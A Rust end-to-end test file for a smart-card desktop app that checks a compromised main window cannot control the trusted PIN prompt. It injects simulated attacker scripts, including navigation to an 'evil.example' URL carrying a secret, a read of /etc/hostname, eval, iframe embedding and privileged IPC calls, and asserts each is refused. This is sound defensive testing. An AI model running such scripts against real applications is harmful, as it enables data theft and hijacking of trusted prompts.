//! The main window is treated as compromised: whatever its page tries, it can neither read nor fill
//! nor confirm the trusted prompt, nor open one of its own, nor load anything from elsewhere.

use e2e::{Pcscd, World};
use serde_json::{Value, json};

use crate::driver::{Screen, Window};
use crate::{PASSPHRASE, shots};

/// Runs a script of an attacker in the window that is turned to; what it answers.
async fn attack(window: &Window, script: &str) -> Value {
    let script = format!(
        "const done = arguments[0]; (async () => {{ {script} }})().then(
            (value) => done({{ succeeded: value === undefined ? null : value }}),
            (error) => done({{ refused: String(error) }}));"
    );
    window
        .client
        .execute_async(&script, Vec::new())
        .await
        .unwrap()
}

async fn is_refused(window: &Window, script: &str) {
    let answer = attack(window, script).await;
    assert!(answer.get("refused").is_some(), "{script}: {answer}");
}

/// A page that was taken over cannot go where it would tell what it knows.
async fn stays(window: &Window) {
    for elsewhere in [
        "https://evil.example/?secret",
        "file:///etc/hostname",
        "data:text/html,x",
    ] {
        let go = "window.here = true; location.href = arguments[0]";
        window
            .client
            .execute(go, vec![json!(elsewhere)])
            .await
            .unwrap();
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        let here = window
            .client
            .execute("return window.here", Vec::new())
            .await;
        assert_eq!(here.unwrap(), true, "{elsewhere}");
    }
}

fn invoke(command: &str, arguments: &Value) -> String {
    format!("return await window.__TAURI_INTERNALS__.invoke('{command}', {arguments})")
}

#[tokio::test]
async fn the_main_window_has_no_power_over_the_prompt() {
    let _service = Pcscd::start().unwrap();
    let world = World::start().unwrap();
    let card = world.card_in_vpcd("citizen", 0).unwrap();
    let screen = Screen::start(world.dir(), &shots());
    let window = screen.open(&world.profile("window").unwrap()).await;
    window
        .css("[data-testid='reader-state'][data-state='ready']")
        .await;

    // The way of the attacks works for what is allowed.
    let allowed = attack(&window, &invoke("settings", &json!({}))).await;
    assert!(allowed.get("succeeded").is_some(), "{allowed}");

    window.click("go-sign-in").await;
    window.click("sign-in").await;
    window.prompt("passphrase").await;
    window.to_main().await;
    // It is open now, and the main window knows all names.
    for (command, arguments) in [
        ("prompt_view", json!({})),
        ("prompt_submit", json!([1, 2, 3])),
        ("prompt_cancel", json!({})),
        (
            "plugin:webview|create_webview_window",
            json!({"options": {"label": "prompt", "url": "prompt.html"}}),
        ),
        ("plugin:window|close", json!({"label": "prompt"})),
        ("plugin:window|set_focus", json!({"label": "main"})),
        (
            "plugin:window|set_always_on_top",
            json!({"label": "main", "value": true}),
        ),
        (
            "plugin:window|set_fullscreen",
            json!({"label": "main", "value": true}),
        ),
        ("plugin:webview|internal_toggle_devtools", json!({})),
        (
            "plugin:event|emit_to",
            json!({"target": {"kind": "Window", "label": "prompt"}, "event": "x", "payload": 1}),
        ),
    ] {
        is_refused(&window, &invoke(command, &arguments)).await;
    }
    // A prompt of its own is a page without a core; nothing comes in from elsewhere.
    is_refused(
        &window,
        "const frame = document.createElement('iframe'); frame.src = 'prompt.html';
         const loaded = new Promise((yes, no) => { frame.onload = yes; frame.onerror = no; });
         document.body.append(frame); await loaded;
         if (!frame.contentDocument?.body?.innerHTML) throw 'blocked'",
    )
    .await;
    is_refused(
        &window,
        "if (!window.open('prompt.html')) throw 'no window'",
    )
    .await;
    is_refused(
        &window,
        "return (await fetch('https://portal.example/')).status",
    )
    .await;
    is_refused(
        &window,
        "await import('data:text/javascript,export default 1')",
    )
    .await;
    is_refused(&window, "return eval('1 + 1')").await;
    stays(&window).await;

    // The prompt stands as it stood, and still serves the person.
    window.prompt("passphrase").await;
    window.write("prompt-secret", PASSPHRASE).await;
    window.write("prompt-secret-again", PASSPHRASE).await;
    window.confirm().await;
    window.prompt("sign_in").await;
    stays(&window).await;
    // And the prompt in turn may do nothing but its own.
    for command in ["settings", "drafts", "start_sign_in", "logout"] {
        is_refused(&window, &invoke(command, &json!({"reader": card.reader}))).await;
    }
    window.cancel().await;
    window.close().await;
    assert_eq!(card.pin_attempts().unwrap(), 3);
}

#[tokio::test]
async fn a_prompt_that_is_left_alone_closes_and_nothing_was_tried() {
    let _service = Pcscd::start().unwrap();
    let world = World::start().unwrap();
    let card = world.card_in_vpcd("citizen", 0).unwrap();
    let profile = world.profile("window").unwrap();
    let settings = profile.join("settings.json");
    let kept = std::fs::read_to_string(&settings).unwrap();
    let mut kept: Value = serde_json::from_str(&kept).unwrap();
    kept["prompt_seconds"] = json!(20);
    std::fs::write(&settings, kept.to_string()).unwrap();
    let screen = Screen::start(world.dir(), &shots());
    let window = screen.open(&profile).await;
    window
        .css("[data-testid='reader-state'][data-state='ready']")
        .await;

    window.click("nav-card").await;
    window.click("read-card").await;
    window.prompt_unseen("read_card").await;
    window.find("prompt-closes").await;
    // Who is there keeps it open: what closes after twenty seconds says so ten seconds before.
    let typed = std::time::Instant::now();
    window.write("prompt-secret", "1234").await;
    window.gone("prompt-closes").await;
    window.find("prompt-closes").await;
    assert!(typed.elapsed().as_secs() >= 9, "{:?}", typed.elapsed());
    window.picture("81-prompt-closes").await;
    window.closed().await;
    window.find("problem-prompt_timed_out").await;
    assert_eq!(card.pin_attempts().unwrap(), 3);
}
